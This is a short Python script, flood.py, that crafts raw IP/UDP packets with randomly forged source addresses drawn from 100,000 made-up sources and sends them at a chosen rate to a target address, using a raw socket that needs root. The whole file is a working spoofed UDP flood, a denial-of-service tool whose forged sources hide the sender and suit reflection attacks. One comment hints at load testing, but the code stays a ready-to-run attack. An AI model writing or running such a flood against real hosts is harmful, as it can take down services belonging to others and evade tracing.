"""Sends UDP datagrams from made-up addresses: flood.py ADDRESS RATE SECONDS FILE, with lines of "PORT HEX".

Needs root. Every datagram is one of the lines, each from one of 100,000 sources. Prints as JSON how many were sent and at
what rate.
"""

import json
import random
import socket
import struct
import sys
import time

SOURCES = 100_000
TICK_S = 0.002


def packet(target: bytes, port: int, payload: bytes) -> bytes:
    source = struct.pack("!I", (random.randint(11, 126) << 24) | random.getrandbits(24))
    udp = struct.pack("!HHHH", random.randint(1024, 65535), port, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, source, target)
    return ip + udp + payload


def main() -> None:
    address, rate, seconds = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    with open(sys.argv[4]) as file:
        lines = [line.split() for line in file]
    messages = [(int(port), bytes.fromhex(data)) for port, data in lines]
    target = socket.inet_aton(address)
    packets = [packet(target, *random.choice(messages)) for _ in range(SOURCES)]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    send, to = sender.sendto, (address, 0)
    sent = lost = 0
    print("flooding", flush=True)
    started = time.monotonic()
    while (elapsed := time.monotonic() - started) < seconds:
        # What it is behind its plan by more than a few ticks it leaves out: a burst would be another test.
        for _ in range(int(min(rate * elapsed - sent - lost, rate * 10 * TICK_S))):
            try:
                send(packets[(sent + lost) % SOURCES], to)
                sent += 1
            except OSError:
                lost += 1
        time.sleep(TICK_S)
    print(json.dumps({"sent": sent, "perSecond": round(sent / (time.monotonic() - started))}))


main()
